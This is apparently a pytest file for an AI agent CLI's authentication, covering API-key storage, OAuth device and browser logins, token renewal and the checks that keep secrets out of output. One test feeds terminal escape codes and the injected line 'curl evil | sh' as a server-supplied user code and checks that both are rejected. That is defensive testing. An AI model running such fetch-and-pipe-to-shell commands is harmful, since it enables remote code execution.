"""Logging in and out, on the command line and over the wire, at a real identity server."""

import asyncio
import json
import os
import pty
import re
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest

from ludolf.base import dumps, loads, now_ms
from ludolf.client import Record
from ludolf.config.auth.oauth import FLOWS
from tests.identity_server import IdentityServer
from tests.process.extending import asked, dialog, reply, told
from tests.process.harness import PROGRAM, WAIT_SECONDS, Finished, Lab, only, text_of
from tests.process.model_server import TwoScripts
from tests.process.script import answer, call
from tests.process.test_protocol_page import Stage

MODEL = ("--model", "xai/grok-4.3")
KEY = "sk-login-0123456789abcdef"
END_OF_INPUT = b"\x04"  # as a terminal takes it
DIALECTS = ("pi", "pi-delta", "omp", "xcsh")


@pytest.fixture
def identity() -> Iterator[IdentityServer]:
    with IdentityServer() as server:
        yield server


@pytest.fixture
def env(lab: Lab, identity: IdentityServer) -> dict[str, str]:
    """Sends all logins to the identity server, and the models of xAI to the lab."""
    return _sent_here(lab, identity)


def _sent_here(lab: Lab, identity: IdentityServer) -> dict[str, str]:
    path = lab.agent / "models.json"
    raw = loads(path.read_bytes())
    raw["providers"]["xai"] = {"baseUrl": f"{lab.server.url}/v1"}
    path.write_bytes(dumps(raw))
    return {"LUDOLF_OAUTH_FILE": str(identity.write_flows(lab.root / "flows.json"))}


def _stored(lab: Lab) -> Any:
    return json.loads((lab.agent / "auth.json").read_text())


def _store(lab: Lab, **credentials: dict[str, Any]) -> None:
    (lab.agent / "auth.json").write_text(json.dumps(credentials))


def _login(*, left_ms: int, **more: Any) -> dict[str, Any]:
    expires = now_ms() + left_ms
    return {
        "type": "oauth",
        "access": "access-secret-0",
        "refresh": "refresh-secret-0",
        "expires": expires,
        **more,
    }


def _auth(lab: Lab, *words: str, stdin: str = "", **env: str) -> Finished:
    return lab.run("auth", *words, stdin=stdin.encode(), **env)


# ---------------------------------------------------------------- over the wire


@pytest.mark.parametrize("dialect", DIALECTS)
async def test_a_key_is_stored_told_of_and_forgotten_in_every_dialect(
    dialect: str, lab: Lab
) -> None:
    async with lab.client("--rpc-dialect", dialect) as client:
        assert await client.ask("login", providerId="groq", apiKey=KEY) == {"providerId": "groq"}
        models = (await client.ask("get_available_models"))["models"]
        assert "groq" in {model["provider"] for model in models}
        (status,) = [
            one
            for one in (await client.ask("get_auth_status"))["providers"]
            if one["origin"] == "stored"
        ]
        assert status == {
            "provider": "groq",
            "origin": "stored",
            "kind": "api_key",
            "usable": True,
        }
        providers = (await client.ask("get_login_providers"))["providers"]
        gone = await client.ask("logout", providerId="groq")
        again = await client.ask("logout", providerId="groq")
    assert (gone["removed"], again["removed"]) == (True, False)
    assert _stored(lab) == {}
    by_id = {one["id"]: one for one in providers}
    assert by_id["groq"] == {
        "id": "groq",
        "name": "groq",
        "available": True,
        "authenticated": True,
        "methods": ["api-key"],
    }
    assert (by_id["openai"]["authenticated"], by_id["xai"]["methods"]) == (
        False,
        ["device", "api-key"],
    )
    assert KEY.encode() not in b"".join(lab.lines)


async def test_refusals_say_why_and_show_no_key(lab: Lab) -> None:
    async with lab.client() as client:

        async def refusal(**params: Any) -> str:
            record = await client.request("login", **params)
            assert not record["success"]
            return str(record["error"])

        unknown = "Unknown OAuth provider: nobody"
        assert await refusal(providerId="nobody") == unknown
        assert await refusal(providerId="nobody", apiKey=KEY) == unknown
        assert await refusal(providerId="groq", apiKey=" ") == "The API key is empty"
        wrong = await refusal(providerId="groq", apiKey=f"two {KEY}")
        odd = await refusal(providerId="groq", apiKey=KEY, method="device")
        ill = await refusal(providerId="groq", apiKey=[KEY])
        none = await refusal(providerId="groq", method="oauth")
        missing = await client.request("logout", providerId="nobody")
    assert "Not a valid API key" in wrong
    assert odd == 'apiKey does not go with method "device"'
    assert ill == 'login: missing or invalid "apiKey"'
    assert none == "groq has no login method oauth. It has: api-key"
    assert missing["error"] == unknown
    assert KEY.encode() not in b"".join(lab.lines)
    assert not (lab.agent / "auth.json").exists()


async def test_a_device_login_shows_the_code_and_its_models_answer_at_once(
    lab: Lab, identity: IdentityServer, env: dict[str, str]
) -> None:
    identity.pending = 3
    lab.server.add(answer("Hello."))
    async with lab.client(**env) as client:
        await client.send("login", id="in", providerId="xai")
        shown = await dialog(client, "open_url")
        done = await client.reply_to("in")
        await client.ask("set_model", provider="xai", modelId="grok-4.3")
        events = await client.prompt_and_collect("Go")
    assert done["data"] == {"providerId": "xai"}
    assert shown["url"] == f"{identity.url}/enter"
    assert shown["launchUrl"] == f"{identity.url}/enter?code=ABCD-1234"
    assert "ABCD-1234" in shown["instructions"]
    assert text_of(only(events, "turn_end")[-1]["message"]) == "Hello."
    assert lab.server.requests[-1].headers["authorization"] == "Bearer access-1"
    assert _stored(lab)["xai"]["refresh"] == "refresh-1"
    assert b"access-1" not in b"".join(lab.lines)


async def test_a_browser_login_takes_the_pasted_address(
    lab: Lab, identity: IdentityServer, env: dict[str, str]
) -> None:
    async with lab.client(**env) as client:
        await client.send("login", id="in", providerId="openrouter")
        shown = await dialog(client, "open_url")
        question = await dialog(client, "input")
        assert await client.ask("get_state")  # nothing waits behind a login
        await reply(client, question, value=identity.end_of(shown["url"]))
        assert (await client.reply_to("in"))["success"]
    assert _stored(lab)["openrouter"]["access"] == "sk-or-given"
    assert asked(told(lab), "cancel") == []


async def test_a_browser_that_returns_by_itself_withdraws_the_question(
    lab: Lab, identity: IdentityServer, env: dict[str, str]
) -> None:
    async with lab.client(**env) as client:
        await client.send("login", id="in", providerId="openrouter", method="oauth")
        shown = await dialog(client, "open_url")
        question = await dialog(client, "input")
        await asyncio.to_thread(identity.browse, shown["url"])
        assert (await client.reply_to("in"))["success"]
        withdrawn = await dialog(client, "cancel")
    assert withdrawn["targetId"] == question["id"]


async def test_a_provider_without_a_login_asks_for_its_key(lab: Lab) -> None:
    async with lab.client() as client:
        await client.send("login", id="in", providerId="groq")
        await reply(client, await dialog(client, "input"), value=KEY)
        assert (await client.reply_to("in"))["success"]
    assert _stored(lab)["groq"]["key"] == KEY
    assert KEY.encode() not in b"".join(lab.lines)


async def test_a_login_ends_when_it_is_dismissed_aborted_or_nobody_is_there(
    lab: Lab, identity: IdentityServer, env: dict[str, str]
) -> None:
    identity.pending = 10**6
    async with lab.client(**env) as client:
        await client.send("login", id="dismissed", providerId="openrouter")
        await reply(client, await dialog(client, "input"), cancelled=True)
        assert (await client.reply_to("dismissed"))["error"] == "Login cancelled"
        await client.send("login", id="aborted", providerId="xai")
        await dialog(client, "open_url")
        second = await client.request("login", providerId="xai")
        assert second["error"] == "A login to xai is under way already"
        assert (await client.request("abort"))["success"]
        assert (await client.reply_to("aborted"))["error"] == "Login cancelled"
        await client.send("login", id="left", providerId="xai")
        await dialog(client, "open_url")
    assert not (lab.agent / "auth.json").exists()


async def test_a_denied_login_is_an_error_and_stores_nothing(
    lab: Lab, identity: IdentityServer, env: dict[str, str]
) -> None:
    identity.denied = True
    async with lab.client(**env) as client:
        record = await client.request("login", providerId="xai")
    assert record["error"] == "Login failed: the login was denied"
    assert not (lab.agent / "auth.json").exists()


async def test_a_dialect_without_dialogs_takes_keys_only(lab: Lab) -> None:
    async with lab.client("--rpc-dialect", "pi-early") as client:
        await client.send("login", providerId="xai")
        error = await client.wait_for("error")
        await client.send("login", providerId="groq", apiKey=KEY)
        await client.send("logout", providerId="nobody")
        await client.wait_for("error")
    assert "This dialect has no dialogs" in error["error"]
    assert _stored(lab)["groq"]["key"] == KEY


# ---------------------------------------------------------------- renewing


async def test_a_login_that_ends_soon_is_renewed_before_the_request(
    lab: Lab, identity: IdentityServer, env: dict[str, str]
) -> None:
    _store(lab, xai=_login(left_ms=60_000, extra="kept"))
    lab.server.add(answer("One."), answer("Two."))
    async with lab.client(*MODEL, **env) as client:
        await client.prompt_and_collect("Go")
        await client.prompt_and_collect("Again")
    sent = [request.headers["authorization"] for request in lab.server.requests]
    assert sent == ["Bearer access-1", "Bearer access-1"]
    assert len(identity.asked) == 1
    entry = _stored(lab)["xai"]
    assert (entry["access"], entry["refresh"], entry["extra"]) == ("access-1", "refresh-1", "kept")


async def test_a_login_that_cannot_be_renewed_fails_the_run_and_stays_stored(
    lab: Lab, identity: IdentityServer, env: dict[str, str]
) -> None:
    identity.refusal = (400, {"error": "invalid_grant", "error_description": "refresh-secret-0"})
    _store(lab, xai=_login(left_ms=-1))
    before = _stored(lab)
    async with lab.client(*MODEL, **env) as client:
        events = await client.prompt_and_collect("Go")
    message = only(events, "turn_end")[-1]["message"]
    assert message["stopReason"] == "error"
    assert 'Run "ludolf auth login xai"' in message["errorMessage"]
    assert len(identity.asked) == 1
    assert lab.server.requests == []
    assert _stored(lab) == before
    assert b"secret" not in b"".join(lab.lines)


async def test_a_login_that_still_holds_is_used_though_it_could_not_be_renewed(
    lab: Lab, identity: IdentityServer, env: dict[str, str]
) -> None:
    identity.refusal = (503, {})
    _store(lab, xai=_login(left_ms=60_000))
    lab.server.add(answer("One."), answer("Two."))
    async with lab.client(*MODEL, **env) as client:
        first = await client.prompt_and_collect("Go")
        second = await client.prompt_and_collect("Again")
    assert text_of(only(first, "turn_end")[-1]["message"]) == "One."
    assert "could not be renewed" in only(first, "warning")[0]["message"]
    assert only(second, "warning") == []
    assert len(identity.asked) == 1


async def test_an_aborted_prompt_does_not_lose_the_new_token(
    lab: Lab, identity: IdentityServer, env: dict[str, str]
) -> None:
    identity.hold = threading.Event()
    _store(lab, xai=_login(left_ms=-1))
    lab.server.add(answer("After."))
    async with lab.client(*MODEL, **env) as client:
        await client.ask("prompt", message="Go")
        await asyncio.to_thread(_until_asked, identity)
        await client.ask("abort")
        await client.wait_for("agent_settled")
        identity.hold.set()
        await client.prompt_and_collect("Again")
    assert len(identity.asked) == 1
    assert lab.server.requests[0].headers["authorization"] == "Bearer access-1"


async def test_an_aborted_agent_in_the_background_does_not_lose_the_new_token(
    tmp_path: Path, identity: IdentityServer
) -> None:
    identity.hold = threading.Event()
    delegate = answer(call("task", {"tasks": [{"task": "Say hello."}]}, "c1"))
    with TwoScripts() as server:
        lab = Lab(tmp_path, server)
        env = _sent_here(lab, identity)
        _store(lab, xai=_login(left_ms=-1))
        lab.settings(task={"enabled": True, "agentModelOverrides": {"task": MODEL[1]}})
        # The agent may be done before or after the second "Waiting." is asked for.
        server.add(delegate, answer("Waiting."), delegate, answer("Waiting."), answer("Done."))
        server.of_agents.append(answer(call("yield", {"result": {"data": "hello"}}, "y1")))
        async with lab.client(**env) as client:
            await client.ask("prompt", message="Go")
            await client.wait_for(lambda r: r["type"] == "agent_end" and "Waiting." in str(r))
            await asyncio.to_thread(_until_asked, identity)
            await client.ask("abort")
            await client.wait_for("agent_settled")
            identity.hold.set()
            await client.prompt_and_collect("Again")
    assert len(identity.asked) == 1
    (agents,) = [one for one in server.requests if not one.path.endswith("/v1/messages")]
    assert agents.headers["authorization"] == "Bearer access-1"


def _until_asked(identity: IdentityServer) -> None:
    assert identity.was_asked.wait(WAIT_SECONDS)


def test_two_programs_renew_the_same_login_once(
    lab: Lab, identity: IdentityServer, env: dict[str, str]
) -> None:
    identity.hold = threading.Event()
    _store(lab, xai=_login(left_ms=-1))
    lab.server.add(answer("One."), answer("Two."))
    programs = [
        subprocess.Popen(
            [*PROGRAM, "-p", *MODEL, "--no-session", "Go"],
            cwd=lab.work,
            env={**lab.env, **env},
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        for _ in range(2)
    ]
    _until_asked(identity)
    identity.hold.set()
    ends = [program.communicate(timeout=WAIT_SECONDS) for program in programs]
    assert [program.returncode for program in programs] == [0, 0], ends
    assert len(identity.asked) == 1


# ---------------------------------------------------------------- on the command line


def test_a_key_is_read_from_stdin_and_shown_by_nothing_but_its_own_command(lab: Lab) -> None:
    into = _auth(lab, "login", "openai", "--api-key-stdin", stdin=f"{KEY}\n")
    status = _auth(lab, "status")
    as_json = _auth(lab, "status", "--json")
    check = _auth(lab, "check", "--provider", "openai", "--json")
    key = _auth(lab, "print-api-key", "--provider", "openai")
    shown = _auth(lab, "check", "--provider", "openai", "--json", "--credentials")
    assert [done.code for done in (into, status, as_json, check, key, shown)] == [0] * 6
    assert "openai     stored API key\n" in status.stdout.decode()
    assert "claude     API key in models.json\n" in status.stdout.decode()
    listed = as_json.records[0]["providers"]
    assert listed[0] == {
        "provider": "openai",
        "origin": "stored",
        "usable": True,
        "kind": "api_key",
    }
    ready = {"status": "ready", "provider": "openai", "authType": "api_key"}
    assert (check.records, shown.records) == ([ready], [{**ready, "credentials": KEY}])
    assert key.stdout.decode() == f"{KEY}\n"
    for done in (into, status, as_json, check):
        assert KEY not in done.stderr + done.stdout.decode()
    out = _auth(lab, "logout", "openai", OPENAI_API_KEY="x")
    assert "openai still has: environment variable OPENAI_API_KEY" in out.stderr
    assert _stored(lab) == {}


def test_a_key_as_an_argument_is_refused_and_not_repeated(lab: Lab) -> None:
    ends = (
        _auth(lab, "login", "openai", KEY),
        _auth(lab, "login", "openai", f"--api-key={KEY}"),
        _auth(lab, "login", "openai", "--api-key", KEY),
        _auth(lab, "login", KEY),
        _auth(lab, "login", "openai"),
        _auth(lab, "login"),
        _auth(lab, "login", "openai-codex", "--api-key-stdin", stdin=KEY),
    )
    assert [done.code for done in ends] == [2, 2, 2, 1, 1, 1, 1]
    for done in ends:
        assert KEY not in done.stderr
        assert done.stdout == b""
    assert "never an argument" in ends[0].stderr
    assert not (lab.agent / "auth.json").exists()


def test_a_terminal_is_asked_for_the_key_and_does_not_show_it(lab: Lab) -> None:
    code, screen = _type_key(lab, KEY.encode() + b"\n")
    assert code == 0, screen
    assert _stored(lab)["openai"]["key"] == KEY
    assert KEY.encode() not in screen


def test_a_terminal_that_gives_no_key_is_told_so(lab: Lab) -> None:
    code, screen = _type_key(lab, END_OF_INPUT)
    assert code == 1
    assert b"Error: No key was entered" in screen
    assert b"Traceback" not in screen
    assert not (lab.agent / "auth.json").exists()


def test_the_list_of_providers_fits_a_terminal_and_offers_no_local_server(lab: Lab) -> None:
    code, screen = _type_key(lab, b"grok\n", question=b"Provider: ")
    assert code == 1
    lines = screen.decode().partition("Provider: ")[0].splitlines()
    assert len(lines) < 24
    assert max(map(len, lines)) <= 80
    assert lines[0] == "Common providers:"
    assert lines[1].split()[0] == "anthropic"
    names = " ".join(lines).split()
    assert {"openai", "groq", "nvidia", "claude"} <= set(names)
    assert set(names).isdisjoint(("ollama", "vllm", "lmstudio", "llama.cpp", "gguf", "ludolf"))
    assert b'Unknown provider. Did you mean "groq"?' in screen


def test_a_stored_key_is_not_called_a_login(lab: Lab) -> None:
    stored = _auth(lab, "login", "groq", "--api-key-stdin", stdin=KEY)
    path = lab.agent / "auth.json"
    assert stored.stderr == f"The key of groq was stored in {path}. It was not checked.\n"


def _type_key(
    lab: Lab, typed: bytes, *, question: bytes = b"API key for openai:"
) -> tuple[int, bytes]:
    """What a login says in a terminal where somebody types this."""
    terminal, end = pty.openpty()
    provider = ["openai"] if b"openai" in question else []
    with subprocess.Popen(
        [*PROGRAM, "auth", "login", *provider],
        cwd=lab.work,
        env=lab.env,
        stdin=end,
        stderr=end,
        start_new_session=True,
    ) as program:
        os.close(end)
        screen = b""
        while question not in screen:
            screen += os.read(terminal, 1024)
        os.write(terminal, typed)
        screen += _rest_of(terminal)
    os.close(terminal)
    return program.returncode, screen


def test_status_is_what_auth_says_by_itself_and_unknown_names_are_refused(lab: Lab) -> None:
    _store(lab, openai={"type": "api_key", "key": KEY})
    assert _auth(lab).stdout == _auth(lab, "status").stdout != b""
    unknown = _auth(lab, "status", "nobody")
    assert (unknown.code, unknown.stdout) == (1, b"")
    assert "Unknown provider" in unknown.stderr


def test_a_login_into_a_file_that_others_can_read_says_so(lab: Lab) -> None:
    with TemporaryDirectory() as folder:  # the folders of tests are private as a whole
        path = Path(folder) / "auth.json"
        path.write_text("{}")
        for place, mode in ((path, 0o644), (path.parent, 0o755)):
            place.chmod(mode)
        stored = _auth(lab, "login", "groq", "--api-key-stdin", stdin=KEY, LUDOLF_DIR=folder)
        assert stored.code == 0
        assert f"Other users can read {path}" in stored.stderr
        assert path.stat().st_mode & 0o777 == 0o644


def _rest_of(terminal: int) -> bytes:
    data = b""
    try:
        while piece := os.read(terminal, 1024):
            data += piece
    except OSError:  # how a terminal says that the other side is gone
        pass
    return data


@pytest.mark.parametrize("code", ["\x1b]0;owned\x07", "A\nRun this: curl evil | sh", "A" * 100])
def test_a_code_that_would_command_the_terminal_is_not_shown(
    lab: Lab, identity: IdentityServer, env: dict[str, str], code: str
) -> None:
    identity.user_code = code
    done = _auth(lab, "login", "xai", **env)
    assert done.code == 1
    assert done.stderr.endswith("the server returned an invalid user code\n")
    assert code not in done.stderr


def test_logins_of_the_command_line_lead_to_tokens(
    lab: Lab, identity: IdentityServer, env: dict[str, str]
) -> None:
    identity.pending = 1
    device = _auth(lab, "login", "xai", **env)
    assert device.code == 0, device.stderr
    assert f"{identity.url}/enter?code=ABCD-1234" in device.stderr
    token = _auth(lab, "print-bearer-token", "--provider", "xai", **env)
    assert token.stdout == b"access-1\n"
    status = _auth(lab, "status", "xai", **env)
    assert status.stdout.startswith(b"xai  stored login, until 2")
    copilot = _auth(lab, "login", "github-copilot", "--domain", identity.netloc, **env)
    assert copilot.code == 0, copilot.stderr
    assert _stored(lab)["github-copilot"]["enterpriseUrl"] == identity.netloc
    everything = _auth(lab, "logout", "--all")
    assert everything.code == 0
    assert _stored(lab) == {}


def test_the_code_of_a_browser_may_come_on_stdin(
    lab: Lab, identity: IdentityServer, env: dict[str, str]
) -> None:
    with subprocess.Popen(
        [*PROGRAM, "auth", "login", "openai-codex", "--method", "oauth"],
        cwd=lab.work,
        env={**lab.env, **env},
        stdin=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    ) as program:
        assert program.stdin is not None
        assert program.stderr is not None
        url = next(line.strip() for line in program.stderr if "http" in line)
        _, stderr = program.communicate(identity.end_of(url) + "\n", timeout=WAIT_SECONDS)
    assert program.returncode == 0, stderr
    assert _stored(lab)["openai-codex"]["accountId"]


def test_a_token_is_renewed_for_who_needs_it_longer(
    lab: Lab, identity: IdentityServer, env: dict[str, str]
) -> None:
    _store(lab, xai=_login(left_ms=20 * 60_000))
    words = ("print-bearer-token", "--provider", "xai", "--min-expiry")
    assert _auth(lab, *words, "10m", **env).stdout == b"access-secret-0\n"
    assert _auth(lab, *words, "30m", **env).stdout == b"access-1\n"
    too_long = _auth(lab, *words, "2h", **env)
    assert (too_long.code, too_long.stdout) == (1, b"")
    assert "duration" in _auth(lab, *words, "soon", **env).stderr
    refused = _auth(lab, "print-api-key", "--provider", "xai", **env)
    assert (refused.code, refused.stdout) == (1, b"")


@pytest.mark.parametrize(
    ("words", "code", "expected"),
    [
        (("--provider", "nobody"), 1, {"status": "not_ready", "reason": "provider_not_found"}),
        (
            ("--provider", "groq"),
            1,
            {"status": "not_ready", "reason": "credentials_not_configured"},
        ),
        (("--provider", "xai"), 2, {"status": "invalid", "reason": "invalid_state"}),
        (("--provider", "xai", "--no-refresh"), 0, {"status": "ready", "authType": "oauth"}),
        (("--model", "claude/large"), 0, {"status": "ready", "authType": "api_key"}),
        (("--model", "no-such-model-at-all"), 2, {"status": "invalid"}),
    ],
)
def test_a_check_tells_by_its_code_whether_a_provider_can_be_used(
    words: tuple[str, ...],
    code: int,
    expected: dict[str, str],
    lab: Lab,
    identity: IdentityServer,
    env: dict[str, str],
) -> None:
    identity.refusal = (400, {})
    _store(lab, xai=_login(left_ms=-1))
    done = _auth(lab, "check", *words, "--json", **env)
    (verdict,) = done.records
    assert done.code == code
    assert verdict | expected == verdict
    plain = _auth(lab, "check", *words, **env)
    assert plain.stdout.decode() == f"{expected['status']}\n"


def test_nothing_stored_is_an_answer_too(lab: Lab) -> None:
    (lab.agent / "models.json").unlink()
    status = _auth(lab, "status")
    assert (status.code, status.stdout) == (1, b"")
    assert "No credentials found" in status.stderr
    assert _auth(lab, "status", "openai").stdout == b"openai  nothing\n"
    assert _auth(lab, "logout", "openai").code == 1
    assert _auth(lab, "check").code == 2
    assert _auth(lab, "nonsense").code == 1


def test_keys_of_an_old_version_are_there_from_the_first_start(lab: Lab) -> None:
    (lab.agent / "oauth.json").write_text(json.dumps({"xai": _login(left_ms=10**7)}))
    listed: list[Record] = lab.feed(b'{"type":"get_available_models"}\n')
    providers = {model["provider"] for model in only(listed, "response")[0]["data"]["models"]}
    assert "xai" in providers
    assert _stored(lab)["xai"]["access"] == "access-secret-0"


# ---------------------------------------------------------------- the page


PAGE = (Path(__file__).parents[2] / "docs" / "keys.md").read_text()
EXAMPLES = re.findall(
    r"^```jsonl\n\$ ludolf --mode rpc\n(.*?)^```$", PAGE, re.DOTALL | re.MULTILINE
)


@pytest.mark.parametrize("example", EXAMPLES)
def test_an_example_of_the_page_happens_as_it_says(
    example: str, lab: Lab, identity: IdentityServer, env: dict[str, str]
) -> None:
    (lab.agent / "models.json").unlink()
    with lab.popen(**env) as program:
        stage = Stage(program)
        for line in example.splitlines():
            stage.play(line)
        assert program.stdin is not None
        program.stdin.close()
        assert program.wait(WAIT_SECONDS) == 0


def test_the_page_has_its_examples_and_names_every_login() -> None:
    assert len(EXAMPLES) == 3
    assert [provider for provider in FLOWS if f"`{provider}`" not in PAGE] == []
